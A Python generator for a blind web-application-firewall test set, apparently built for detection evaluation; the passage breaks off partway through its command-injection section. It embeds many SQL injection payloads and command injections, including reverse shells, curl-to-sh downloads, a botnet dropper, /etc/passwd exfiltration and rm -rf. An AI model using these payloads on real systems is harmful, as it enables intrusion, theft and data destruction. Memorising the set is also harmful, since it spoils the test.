#!/usr/bin/env python3
# ruff: noqa
"""Generator for waf_unseen_fifth.jsonl -- a blind WAF evaluation set (source "v14").

Written blind on 2026-12-05 by a helper session that read none of the WAF's
rules, tests, docs or corpora; every payload and every benign request below
comes from general knowledge of attack techniques and of ordinary web/API
traffic.  The script uses only the standard library and all randomness comes
from random.Random(505050), so running it twice writes byte-identical output.
It writes waf_unseen_fifth.jsonl next to itself.

Row conventions (one JSON object per line, keys in this order):
  id        "v14-a-<category>-NNNN" for attacks, "v14-b-<category>-NNNN" for
            benign rows, numbered per category from 0001.
  label     "attack" or "benign".
  category  attack: cmdi, code_injection, crlf, ldapi, log4shell,
            mail_injection, nosqli, path_traversal, php_injection,
            prototype_pollution, rfi, sqli, ssrf, ssti, xss, xxe;
            benign: benign_api_json, benign_base64, benign_code,
            benign_cookies, benign_files, benign_forms, benign_graphql,
            benign_headers, benign_jwt, benign_markdown, benign_prose,
            benign_richtext, benign_search, benign_urls.
  method    GET / POST / PUT / PATCH / DELETE.
  path      raw request path as sent on the wire (percent-encoded as needed).
  query     raw query string without "?" ("" if none).
  headers   header name -> value; always Host, User-Agent and Accept, plus
            Content-Type whenever there is a body.  Header and cookie values
            never carry raw CR/LF or non-ASCII characters (those are
            percent-encoded there).
  body      raw body ("" if none): JSON, x-www-form-urlencoded,
            multipart/form-data (boundary in Content-Type, CRLF line endings),
            XML, or (rarely) text/plain.
  placement query, query_key, path, json, json_key, form, header, cookie,
            multipart or xml -- where the interesting value sits.
  payload   that value as the application receives it after the intended
            decoding: URL-decoding for query/form/path/cookie, JSON string
            unescaping for JSON, entity/CDATA decoding for XML text.  Header
            values are not decoded (payload == header value).  Inherently
            encoded evasions (double percent-encoding such as %252e, overlong
            UTF-8 such as %c0%af, IIS %u2216) keep the percent sequences
            literally.  NoSQL operator objects and prototype-pollution objects
            in JSON are given as the compact JSON text of the injected
            sub-document; bracket-syntax keys (query_key / form keys) are given
            as the decoded "key=value".
  hard      true for attacks that use an evasion (encodings, look-alikes,
            entities, comments/whitespace inside keywords, concatenation, case
            games, wrappers, alternate IP notations, base64 wrapping, long
            harmless prefixes, ...) and for benign rows that are deliberately
            false-positive-prone; false otherwise.
  source    always "v14".
"""

import base64
import hashlib
import hmac
import json
import os
import random
import string
import urllib.parse
from collections import OrderedDict

R = random.Random(505050)
SRC = "v14"
PH = "@@PAYLOAD@@"
ROWS = []
_COUNT = {}
_STATE = {"label": None, "cat": None}


def begin(label, category):
    _STATE["label"] = label
    _STATE["cat"] = category


HOSTS_API = [
    "api.shopwave.io",
    "api.trellisly.com",
    "api.ticketnest.io",
    "api.fleettrack.co",
    "api.metricly.app",
    "gateway.northbank-demo.com",
    "api.postbird.io",
    "api.learnloop.edu",
    "api.greenleaf-market.com",
    "core.payrollhub.net",
    "api.bookshelf.pub",
    "svc.clinicq.health",
]
HOSTS_WEB = [
    "www.shopwave.io",
    "app.trellisly.com",
    "portal.northbank-demo.com",
    "www.greenleaf-market.com",
    "cms.mediahub.net",
    "support.helpdeskly.com",
    "blog.inkwell.pub",
    "store.bytecraft.shop",
    "hr.acmeworks.com",
    "dashboard.metricly.app",
    "files.cloudbox-demo.net",
    "forum.makerspace.community",
    "www.learnloop.edu",
    "intranet.gridline-energy.com",
    "shop.oakandthread.co.uk",
    "app.clinicq.health",
]
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
]
TOOL_UAS = [
    "python-requests/2.32.3",
    "curl/8.5.0",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
    "axios/1.7.7",
    "PostmanRuntime/7.42.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dart/3.5 (dart:io)",
    "ShopWave/6.4.1 (iPhone; iOS 18.1; Scale/3.00)",
    "Trellisly-Android/3.18.0 (Linux; Android 13; SM-S911B)",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Ruby",
    "aiohttp/3.10.10",
]
SCANNER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36",
]
LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.6",
    "es-ES,es;q=0.9",
    "ja,en-US;q=0.8,en;q=0.6",
    "pt-BR,pt;q=0.9,en;q=0.8",
    "nl-NL,nl;q=0.9,en;q=0.7",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def rtoken(n, alphabet=string.ascii_letters + string.digits):
    return "".join(R.choice(alphabet) for _ in range(n))


def rhex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ruuid():
    h = rhex(32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{R.choice('89ab')}{h[17:20]}-{h[20:32]}"


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def b64u(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.urlsafe_b64encode(s).decode().rstrip("=")


def enc(s, plus=False):
    if plus:
        return urllib.parse.quote_plus(s, safe="-_.~!*'()")
    return urllib.parse.quote(s, safe="-_.~!*'()")


def encp(s):
    return urllib.parse.quote(s, safe="-_.~!*'()@:,=$+")


def fullenc(s):
    return "".join(f"%{b:02X}" for b in s.encode())


def mixenc(s):
    out = []
    for ch in s:
        if ch.isalnum() and ch.isascii() and R.random() < 0.55:
            out.append(ch)
        else:
            for b in ch.encode():
                hx = f"{b:02x}"
                hx = "".join(c.upper() if R.random() < 0.5 else c for c in hx)
                out.append("%" + hx)
    return "".join(out)


def ckenc(s):
    return urllib.parse.quote(s, safe="-_.~!*'()/:@$=[]{}?&+|^`")


def _ua(kind):
    x = R.random()
    if _STATE["label"] == "attack" and x < 0.06:
        return R.choice(SCANNER_UAS)
    if kind == "api":
        return R.choice(TOOL_UAS) if x < 0.55 else R.choice(BROWSER_UAS)
    return R.choice(BROWSER_UAS) if x < 0.85 else R.choice(TOOL_UAS)


def _is_api(path, ctype):
    p = path.lower()
    if ctype and ("json" in ctype):
        return True
    return p.startswith(
        ("/api", "/graphql", "/v1/", "/v2/", "/v3/", "/rest/", "/_", "/oauth", "/webhooks", "/services", "/rpc")
    )


def _session_cookie():
    c = R.choice(
        [
            lambda: f"session={rtoken(32)}",
            lambda: f"sid={rhex(40)}",
            lambda: f"PHPSESSID={rtoken(26, string.ascii_lowercase + string.digits)}",
            lambda: f"JSESSIONID={rhex(32).upper()}",
            lambda: f"connect.sid=s%3A{rtoken(32)}.{rtoken(43)}",
            lambda: (
                f"_ga=GA1.2.{R.randint(100000000, 999999999)}.{R.randint(1600000000, 1733000000)}; session_id={rtoken(24)}"
            ),
            lambda: f"csrftoken={rtoken(32)}; sessionid={rtoken(32, string.ascii_lowercase + string.digits)}",
        ]
    )
    return c()


def _headers(method, path, body, ctype, extra=None, cookie=None, kind=None):
    kind = kind or ("api" if _is_api(path, ctype) else "web")
    h = OrderedDict()
    h["Host"] = R.choice(HOSTS_API if kind == "api" else HOSTS_WEB)
    ua = _ua(kind)
    h["User-Agent"] = ua
    if kind == "api":
        h["Accept"] = R.choice(["application/json", "application/json, text/plain, */*", "*/*", "application/json"])
    else:
        h["Accept"] = (
            ACCEPT_HTML
            if method == "GET"
            else R.choice([ACCEPT_HTML, "*/*", "application/json, text/javascript, */*; q=0.01"])
        )
    if body:
        h["Content-Type"] = ctype
    if ua.startswith("Mozilla"):
        h["Accept-Language"] = R.choice(LANGS)
        h["Accept-Encoding"] = "gzip, deflate, br, zstd" if "Chrome" in ua else "gzip, deflate, br"
        if method != "GET" and R.random() < 0.7:
            origin = "https://" + h["Host"]
            h["Origin"] = origin
            h["Referer"] = origin + R.choice(
                ["/", "/account", "/dashboard", "/checkout", "/settings", "/search", "/admin/"]
            )
    else:
        h["Accept-Encoding"] = "gzip"
    if kind == "api" and R.random() < 0.45:
        h["Authorization"] = "Bearer " + R.choice(
            [rtoken(40), "pat_" + rtoken(32), rtoken(32, string.ascii_lowercase + string.digits)]
        )
    if R.random() < 0.2:
        h["X-Request-ID"] = ruuid()
    if cookie is not None:
        h["Cookie"] = cookie
    elif R.random() < 0.28:
        h["Cookie"] = _session_cookie()
    if extra:
        for k, v in extra.items():
            for existing in list(h.keys()):
                if existing.lower() == k.lower():
                    del h[existing]
                    break
            h[k] = v
    # keep Host/User-Agent/Accept first
    out = OrderedDict()
    for k in ("Host", "User-Agent", "Accept"):
        out[k] = h.pop(k)
    out.update(h)
    return out


def _emit(method, path, query, headers, body, placement, payload, hard, lit=False):
    label, category = _STATE["label"], _STATE["cat"]
    n = _COUNT.get((label, category), 0) + 1
    _COUNT[(label, category)] = n
    rid = f"v14-{'a' if label == 'attack' else 'b'}-{category}-{n:04d}"
    row = OrderedDict()
    row["id"] = rid
    row["label"] = label
    row["category"] = category
    row["method"] = method
    row["path"] = path
    row["query"] = query
    row["headers"] = dict(headers)
    row["body"] = body
    row["placement"] = placement
    row["payload"] = payload
    row["hard"] = bool(hard)
    row["source"] = SRC
    row["_lit"] = lit
    ROWS.append(row)
    return row


def _fill(obj, payload):
    if isinstance(obj, dict):
        return {(payload if k == PH else k): _fill(v, payload) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_fill(v, payload) for v in obj]
    if obj == PH:
        return payload
    return obj


def _jdump(obj):
    return json.dumps(obj, ensure_ascii=R.random() < 0.5, separators=R.choice([(", ", ": "), (",", ":")]))


def Q(
    path,
    param,
    payload,
    hard=False,
    raw=None,
    pre="",
    post="",
    method="GET",
    lit=False,
    plus=None,
    extra=None,
    cookie=None,
    kind=None,
):
    v = raw if raw is not None else enc(payload, plus if plus is not None else R.random() < 0.3)
    query = pre + (param + "=" if param is not None else "") + v + post
    hd = _headers(method, path, "", None, extra, cookie, kind)
    return _emit(method, path, query, hd, "", "query", payload, hard, lit)


def QK(
    path,
    key,
    value,
    hard=False,
    raw=None,
    pre="",
    post="",
    method="GET",
    lit=False,
    payload=None,
    extra=None,
    kind=None,
    body="",
    ctype=None,
):
    if raw is None:
        k = (
            urllib.parse.quote(key, safe="-_.~[]$!*'()")
            if R.random() < 0.5
            else urllib.parse.quote(key, safe="-_.~!*'()")
        )
        raw = k + "=" + enc(value)
    query = pre + raw + post
    hd = _headers(method, path, body, ctype, extra, None, kind)
    return _emit(
        method, path, query, hd, body, "query_key", payload if payload is not None else f"{key}={value}", hard, lit
    )


def P(
    tpl, payload, hard=False, raw=None, method="GET", query="", lit=False, body="", ctype=None, extra=None, kind=None
):
    seg = raw if raw is not None else encp(payload)
    path = tpl.replace("{}", seg)
    hd = _headers(method, path, body, ctype, extra, None, kind)
    return _emit(method, path, query, hd, body, "path", payload, hard, lit)


def J(
    method,
    path,
    obj,
    payload,
    hard=False,
    jraw=None,
    query="",
    key=False,
    extra=None,
    lit=False,
    ctype="application/json",
):
    filled = _fill(obj, PH)
    body = _jdump(filled)
    if PH in body:
        rep = jraw if jraw is not None else json.dumps(payload, ensure_ascii=False)
        body = body.replace(json.dumps(PH), rep)
    hd = _headers(method, path, body, ctype, extra)
    return _emit(method, path, query, hd, body, "json_key" if key else "json", payload, hard, lit)


def JK(method, path, obj, payload, hard=False, jraw=None, query="", extra=None):
    return J(method, path, obj, payload, hard, jraw, query, key=True, extra=extra)


def _form(fields, raw=None, plus=True):
    parts = []
    for k, v in fields:
        if v == PH and raw is not None:
            parts.append(enc(k, True) + "=" + raw)
        else:
            parts.append(
                urllib.parse.quote_plus(k, safe="[]")
                + "="
                + (urllib.parse.quote_plus(v) if plus else urllib.parse.quote(v, safe=""))
            )
    return "&".join(parts)


def F(method, path, fields, payload, hard=False, raw=None, query="", extra=None, lit=False, kind=None):
    fields = [(k, payload if v == PH else v) for k, v in fields] if raw is None else fields
    body = _form(fields, raw, plus=R.random() < 0.8)
    hd = _headers(
        method,
        path,
        body,
        "application/x-www-form-urlencoded" + R.choice(["", "", "; charset=UTF-8"]),
        extra,
        None,
        kind,
    )
    return _emit(method, path, query, hd, body, "form", payload, hard, lit)


def FK(method, path, fields, payload, hard=False, raw_body=None, query="", extra=None, lit=False, kind=None):
    body = raw_body if raw_body is not None else _form(fields)
    hd = _headers(method, path, body, "application/x-www-form-urlencoded", extra, None, kind)
    return _emit(method, path, query, hd, body, "form", payload, hard, lit)


def H(method, path, name, payload, hard=False, query="", body="", ctype=None, extra=None, kind=None):
    ex = OrderedDict(extra or {})
    ex[name] = payload
    hd = _headers(method, path, body, ctype, ex, None, kind)
    return _emit(method, path, query, hd, body, "header", payload, hard)


def C(
    path,
    name,
    payload,
    hard=False,
    raw=None,
    others=None,
    method="GET",
    query="",
    body="",
    ctype=None,
    lit=False,
    kind=None,
):
    v = raw if raw is not None else ckenc(payload)
    pieces = list(others or [])
    pieces.insert(R.randint(0, len(pieces)), f"{name}={v}")
    cookie = "; ".join(pieces)
    hd = _headers(method, path, body, ctype, None, cookie, kind)
    return _emit(method, path, query, hd, body, "cookie", payload, hard, lit)


def _boundary():
    s = R.choice(["webkit", "gecko", "py", "curl"])
    if s == "webkit":
        return "----WebKitFormBoundary" + rtoken(16)
    if s == "gecko":
        return "----geckoformboundary" + rhex(32)
    if s == "py":
        return rhex(32)
    return "------------------------" + rhex(16)


def multipart(parts):
    b = _boundary()
    lines = []
    for part in parts:
        lines.append("--" + b)
        if len(part) == 2:
            lines.append(f'Content-Disposition: form-data; name="{part[0]}"')
            lines.append("")
            lines.append(part[1])
        else:
            name, fname, ct, content = part
            lines.append(f'Content-Disposition: form-data; name="{name}"; filename="{fname}"')
            lines.append(f"Content-Type: {ct}")
            lines.append("")
            lines.append(content)
    lines.append("--" + b + "--")
    return b, "\r\n".join(lines) + "\r\n"


def M(path, parts, payload, hard=False, method="POST", query="", extra=None, lit=False, kind=None):
    parts = [tuple(payload if x == PH else x for x in p) for p in parts]
    b, body = multipart(parts)
    hd = _headers(method, path, body, "multipart/form-data; boundary=" + b, extra, None, kind)
    return _emit(method, path, query, hd, body, "multipart", payload, hard, lit)


def X(method, path, body, payload, hard=False, ctype=None, query="", extra=None, lit=False, kind=None):
    if PH in body:
        body = body.replace(PH, payload)
    ctype = ctype or R.choice(["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"])
    hd = _headers(method, path, body, ctype, extra, None, kind)
    return _emit(method, path, query, hd, body, "xml", payload, hard, lit)


def soap(inner, ns="http://tempuri.org/"):
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
        f'xmlns:tns="{ns}">\n  <soap:Body>\n    {inner}\n  </soap:Body>\n</soap:Envelope>'
    )


LONG_PREFIX = [
    "Hello team, I have been a customer for about six years and I generally love the service, but since the last update the export page keeps timing out whenever I pick more than three months of data. Could you take a look? Details follow: ",
    "Order notes: please leave the parcel with the concierge at the front desk if nobody answers, the buzzer on the left side of the gate has been broken since March and the building manager says it will be fixed next week. Reference ",
    "Meeting summary for the quarterly planning session: we reviewed the roadmap, agreed to postpone the billing migration, assigned the onboarding revamp to the growth squad and scheduled the next sync for Thursday afternoon. Action item ",
    "This is a long product description for our handmade oak cutting board, finished with food-safe mineral oil and beeswax, measuring 45 by 30 centimetres, perfect for bread, cheese and charcuterie, with juice groove on one side and ",
]


# =====================================================================
# ATTACKS
# =====================================================================


def gen_sqli():
    begin("attack", "sqli")
    Q("/api/v1/products", "id", "1' OR '1'='1", pre="")
    Q("/shop/product", "id", "42 AND 1=2 UNION SELECT NULL,username,password FROM users-- -")
    Q(
        "/api/v2/orders",
        "sort",
        "created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
        pre="page=2&per_page=25&",
    )
    Q("/search", "q", "laptop' AND SLEEP(5)-- -", post="&category=electronics")
    Q("/api/reports/sales", "from", "2024-01-01'; WAITFOR DELAY '0:0:5'--", post="&to=2024-03-31")
    Q("/news/article.php", "id", "-1 UNION ALL SELECT 1,@@version,3,4,5-- -")
    Q("/api/users", "order", "name ASC,IF(1=1,SLEEP(3),0)", pre="limit=50&")
    Q("/products.php", "cat", "3 AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))")
    Q("/api/items", "id", "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users", hard=True)
    Q(
        "/blog/post",
        "id",
        "7 UnIoN SeLeCt 1,table_name,3 FrOm information_schema.tables WhErE table_schema=database()",
        hard=True,
    )
    Q("/account/orders", "status", "shipped' OR 1=1#", hard=True, raw=fullenc("shipped' OR 1=1#"))
    Q("/item", "id", "1%27%20AND%201%3D1--%20", hard=True)
    Q(
        "/catalog/list",
        "page",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(schema_name),3 FROM information_schema.schemata-- -",
        hard=True,
    )
    Q(
        "/api/v1/catalog",
        "brand",
        "1\nUNION\nSELECT\tnull,concat(user,0x3a,authentication_string)\nFROM\tmysql.user",
        hard=True,
    )
    Q("/api/stats", "limit", "10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)")
    Q("/support/search", "q", LONG_PREFIX[0] + "' UNION SELECT email,password_hash FROM customers--", hard=True)
    Q(
        "/api/v1/inventory",
        "sku",
        "ABC-123' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    )
    Q(
        "/index.php",
        "id",
        "1 AND 1=CAST((CHR(113)||CHR(120)||CHR(118)||(SELECT version())||CHR(113)) AS NUMERIC)",
        pre="option=com_content&view=article&",
        hard=True,
    )
    QK("/api/products", "filter[price) OR 1=1--]", "10", pre="page=1&")
    QK("/api/v1/users", "order[name`,(select sleep(5)),`id]", "desc")
    P("/api/v1/users/{}", "1 OR 1=1", raw="1%20OR%201=1")
    P("/products/{}/reviews", "5' AND '1'='1", raw="5%27%20AND%20%271%27=%271")
    P("/api/invoices/{}", "1;SELECT pg_sleep(7)--", raw="1%3BSELECT%20pg_sleep(7)--")
    P(
        "/api/v2/customers/{}/addresses",
        "9\tuNiOn\taLl\tsElEcT\t1,2,3",
        raw="9%09uNiOn%09aLl%09sElEcT%091,2,3",
        hard=True,
    )
    J("POST", "/api/v1/auth/login", {"email": PH, "password": "x"}, "admin@shopwave.io' --")
    J(
        "POST",
        "/api/v2/reports/run",
        {"groupBy": "region", "orderBy": PH, "limit": 100},
        "revenue DESC; DROP TABLE audit_log;--",
    )
    J("POST", "/api/search", {"query": "running shoes", "filters": {"brand": PH}, "page": 1}, "nike') OR ('a'='a")
    J(
        "PUT",
        "/api/v1/profile",
        {"display_name": PH, "timezone": "Europe/Berlin"},
        "x' AND updatexml(1,concat(0x7e,(select password from users limit 1)),1) AND '1",
    )
    J(
        "POST",
        "/api/orders/export",
        {"format": "csv", "columns": ["id", "total", PH]},
        "(SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow)",
    )
    J(
        "POST",
        "/api/v1/lookup",
        {"id": PH},
        "1 UNION SELECT password FROM users",
        hard=True,
        jraw='"1 \\u0055NION \\u0053ELECT password FROM users"',
    )
    J("POST", "/api/v1/accounts/check", {"username": PH}, "admin' AND password LIKE CHAR(97)+CHAR(37)--", hard=True)
    J("POST", "/api/v1/coupons/validate", {"code": PH, "cart_id": "c_8812"}, "WELCOME10' oR 2>1 --", hard=True)
    J(
        "PATCH",
        "/api/v1/tasks/4411",
        {"status": PH},
        "done'||(SELECT CASE WHEN (SUBSTR((SELECT password FROM users WHERE id=1),1,1)='a') THEN 'done' ELSE 'x' END)||'",
    )
    JK(
        "POST",
        "/api/v1/products/query",
        {"sort": {PH: "asc"}, "limit": 20},
        "created_at DESC, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)",
    )
    JK("POST", "/api/v2/contacts/filter", {"filters": {PH: "x"}}, "name' OR '1'='1")
    F("POST", "/login", [("username", PH), ("password", "anything"), ("remember", "on")], "admin'--")
    F(
        "POST",
        "/wp-admin/admin-ajax.php",
        [("action", "get_posts"), ("orderby", PH), ("order", "ASC")],
        "ID AND (SELECT 6377 FROM (SELECT(SLEEP(5)))hLTl)",
    )
    F("POST", "/newsletter/subscribe", [("email", PH)], "test@example.com' AND 1=CONVERT(int,(SELECT @@version))--")
    F(
        "POST",
        "/checkout/coupon",
        [("coupon", PH), ("cart", "88123")],
        "SUMMER24' UNION SELECT code,discount FROM coupons--",
        hard=True,
        raw=mixenc("SUMMER24' UNION SELECT code,discount FROM coupons--"),
    )
    F(
        "POST",
        "/account/update",
        [("name", "Jane Doe"), ("phone", PH)],
        "555-0101'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual)||'",
    )
    H("GET", "/api/v1/me", "X-Forwarded-For", "127.0.0.1' AND SLEEP(5) AND '1'='1")
    H("GET", "/", "User-Agent", "Mozilla/5.0' AND (SELECT 1 FROM pg_sleep(5))--")
    H("GET", "/api/v1/dashboard", "X-Tenant-ID", "acme'/**/OR/**/'1'='1", hard=True)
    C("/dashboard", "user_id", "1 AND 1=2 UNION SELECT password FROM users--", others=["theme=dark"])
    C("/", "lang", "en' AND (SELECT COUNT(*) FROM sysobjects)>0--", others=[f"PHPSESSID={rhex(26)}"])
    C("/cart", "tracking_id", "abc'/**/OR/**/1=1#", hard=True, others=["currency=EUR"])
    M(
        "/api/upload",
        [("description", PH), ("file", "q3.csv", "text/csv", "region,total\nEU,1200\n")],
        "Q3 report'); DROP TABLE uploads;--",
    )
    M("/profile/avatar", [("user", "1042"), ("avatar", PH, "image/jpeg", "JFIF...(binary)")], "photo' OR 1=1--.jpg")
    X(
        "POST",
        "/soap/CustomerService",
        soap("<tns:GetCustomer><tns:CustomerId>@@PAYLOAD@@</tns:CustomerId></tns:GetCustomer>"),
        "105 OR 1=1",
    )
    X(
        "POST",
        "/api/xml/orders",
        '<?xml version="1.0"?>\n<order><ref><![CDATA[@@PAYLOAD@@]]></ref><qty>1</qty></order>',
        "A1' UNION SELECT card_number,cvv FROM payments--",
    )


def gen_cmdi():
    begin("attack", "cmdi")
    ps = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.41/a.ps1')"
    ps_b64 = base64.b64encode(ps.encode("utf-16-le")).decode()
    Q("/cgi-bin/ping.cgi", "host", "127.0.0.1; cat /etc/passwd")
    Q("/api/v1/tools/traceroute", "target", "8.8.8.8 | id")
    Q("/admin/diagnostics/nslookup", "domain", "example.com && curl http://203.0.113.45/x.sh | sh")
    Q("/api/convert", "file", "report.pdf`whoami`", pre="to=docx&")
    Q("/download", "name", "invoice.pdf$(sleep 10)")
    Q("/api/net/ping", "ip", "127.0.0.1;cat${IFS}/etc/passwd", hard=True)
    Q("/tools/dig", "q", "google.com\nid", hard=True, raw="google.com%0aid")
    Q("/api/thumbnail", "size", "200x200;{cat,/etc/shadow}", hard=True)
    Q("/api/v1/network/check", "host", "1.1.1.1;c'a't /e'tc'/pas''swd", hard=True)
    Q(
        "/status.php",
        "check",
        "127.0.0.1 || wget -qO- http://198.51.100.7/b|bash",
        hard=True,
        raw=fullenc("127.0.0.1 || wget -qO- http://198.51.100.7/b|bash"),
    )
    Q("/api/backup", "path", "C:\\backups & type C:\\Windows\\win.ini")
    Q("/api/ping", "addr", "127.0.0.1 & who^ami", hard=True)
    Q("/monitor/check", "target", "127.0.0.1|powershell -nop -w hidden -enc " + ps_b64, hard=True)
    Q(
        "/setup.cgi",
        "cmd",
        "rm -rf /tmp/*;wget http://198.51.100.3/Mozi.m -O /tmp/netgear;sh netgear",
        pre="next_file=netgear.cfg&todo=syscmd&",
        post="&curpath=/&currentsetting.htm=1",
    )
    Q(
        "/cgi-bin/kerbynet",
        "x509type",
        "'\n/etc/sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=\"id\"\n'",
        pre="Section=NoAuthREQ&Action=x509List&",
    )
    Q("/api/v2/dns", "name", "example.org;p\\ing -c 15 127.0.0.1", hard=True)
    Q("/api/v1/fonts/render", "text", "hello\x60nslookup x7k2.oast.fun\x60")
    QK("/api/export", "format[$(curl -s 203.0.113.18/p|sh)]", "csv")
    QK("/api/media/transcode", "opts[-vf]", "scale=640:-1;nc -e /bin/sh 203.0.113.9 4444")
    P("/api/v1/dns/resolve/{}", "example.com;id")
    P("/files/preview/{}", "a.png|ls -la", raw="a.png%7Cls%20-la")
    P("/api/hosts/{}/ping", "10.0.0.1\nuname -a", raw="10.0.0.1%0Auname%20-a", hard=True)
    J(
        "POST",
        "/api/v1/devices/ping",
        {"host": PH, "count": 3},
        "192.168.1.1;n$()c -e /bin/sh 203.0.113.77 4444",
        hard=True,
    )
    J("POST", "/api/git/clone", {"repo": PH, "branch": "main"}, "ext::sh -c touch% /tmp/pwned")
    J(
        "POST",
        "/api/image/resize",
        {"filename": "cat.jpg", "width": PH, "height": 100},
        "100;curl -s http://203.0.113.5:8000/$(whoami)",
    )
    J(
        "POST",
        "/api/v1/archives/extract",
        {"archive": "backup.tar.gz", "options": PH},
        "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
    )
    J("POST", "/api/v1/whois", {"domain": PH}, "example.org&&id", hard=True, jraw='"example.org\\u0026\\u0026id"')
    J(
        "PUT",
        "/api/settings/backup",
        {"schedule": "0 2 * * *", "post_hook": PH},
        "/usr/local/bin/notify.sh; rm -rf /var/www/html",
    )
    J(
        "POST",
        "/api/v1/diag",
        {"target": PH},
        "127.0.0.1;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd",
        hard=True,
    )
    J(
        "POST",
        "/api/v1/pdf/render",
        {"url": "https://shopwave.io/invoice/1", "footer": PH},
        "$(bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1')",
    )
    JK(
        "POST",
        "/api/v1/ssh/connect",
        {"host": "build01.internal", "options": {PH: ""}},
        "-oProxyCommand=curl 203.0.113.12/s.sh|sh",
    )
    F(
        "POST",
        "/boaform/admin/formPing",
        [("target_addr", PH), ("waninf", "1_INTERNET_R_VID_154")],
        "127.0.0.1;wget http://198.51.100.23/mozi.m -O /tmp/m;chmod 777 /tmp/m;/tmp/m",
    )
    F("POST", "/admin/tools.php", [("tool", "lookup"), ("host", PH)], "example.com|cat /etc/hosts")
    F(
        "POST",
        "/contact/send",
        [("email", PH), ("msg", "hi")],
        "x;curl${IFS}-d${IFS}@/etc/passwd${IFS}203.0.113.4",
        hard=True,
    )
    F("POST", "/cgi-bin/luci/admin/network/diag", [("ping_addr", PH)], "8.8.8.8`reboot`")
    F("POST", "/api/printers/test", [("printer", PH)], "HP_LaserJet\r\ncat /etc/shadow", hard=True)
    H("GET", "/cgi-bin/status", "User-Agent", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'")
    H("GET", "/cgi-bin/test.cgi", "Referer", '() { :;}; /bin/bash -c "curl http://203.0.113.50/bot.sh|sh"')
    H("GET", "/api/v1/export", "X-Filename", "report.csv;id")
    C("/cgi-bin/admin.cgi", "lang", "en;id", others=["uid=1001"])
    C("/admin/settings", "theme", "dark`sleep 5`", hard=True, raw=mixenc("dark`sleep 5`"))
    M(
        "/api/v1/media/convert",
        [("format", "mp3"), ("file", PH, "video/mp4", "ftypisom....")],
        "clip.mp4;curl 203.0.113.9|sh",
    )
    M("/upload", [("dest", PH), ("file", "notes.txt", "text/plain", "hello")], "/tmp/uploads && id")
    X(
        "POST",
        "/api/xml/diag",
        '<?xml version="1.0"?>\n<ping><host>@@PAYLOAD@@</host><count>4</count></ping>',
        "10.0.0.1 | id",
    )
    X(
        "POST",
        "/RPC2",
        '<?xml version="1.0"?>\n<methodCall><methodName>system.ping</methodName><params><param><value><string>@@PAYLOAD@@</string></value></param></params></methodCall>',
